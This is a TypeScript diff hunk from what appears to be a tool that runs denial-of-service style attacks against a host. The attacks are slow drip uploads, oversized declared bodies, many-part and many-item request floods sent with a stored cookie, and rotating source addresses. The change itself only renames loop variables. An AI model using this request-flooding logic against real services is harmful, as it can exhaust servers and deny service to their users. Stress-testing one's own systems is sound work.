@@ -28,16 +28,16 @@ async function run({ attack, port, host, seconds, email, draft }: AttackJob): Pr
   if (attack === "slow" || attack === "held") {
     const count = attack === "slow" ? 60 : 36;
     const body = Buffer.alloc(attack === "slow" ? 200 : 9_000_000, "x");
-    for (let turn = 0; turn < count; turn++) {
+    for (let round = 0; round < count; round++) {
       const pace = { until: end, drip: attack === "slow" };
-      waiting.push(send({ ...upload, address: addressOf(turn), body: body, length: 10_000_000, pace: pace }));
+      waiting.push(send({ ...upload, address: addressOf(round), body, length: 10_000_000, pace }));
     }
   } else if (attack === "parts")
     while (left() > 0 && sent < 6) await send({ ...manyParts(20), address: addressOf(sent) });
   else if (attack === "items")
-    for (let turn = 0; left() > 0; turn++) {
-      const path = `${draft.path}/requests${turn % 2 === 0 ? "/save" : ""}`;
-      waiting.push(send({ ...manyItems(), path, cookie: draft.cookie, address: addressOf(turn), hangUp: true }));
+    for (let attempt = 0; left() > 0; attempt++) {
+      const path = `${draft.path}/requests${attempt % 2 === 0 ? "/save" : ""}`;
+      waiting.push(send({ ...manyItems(), path, cookie: draft.cookie, address: addressOf(attempt), hangUp: true }));
       await pause(100);
     }
   else if (attack === "blanks")
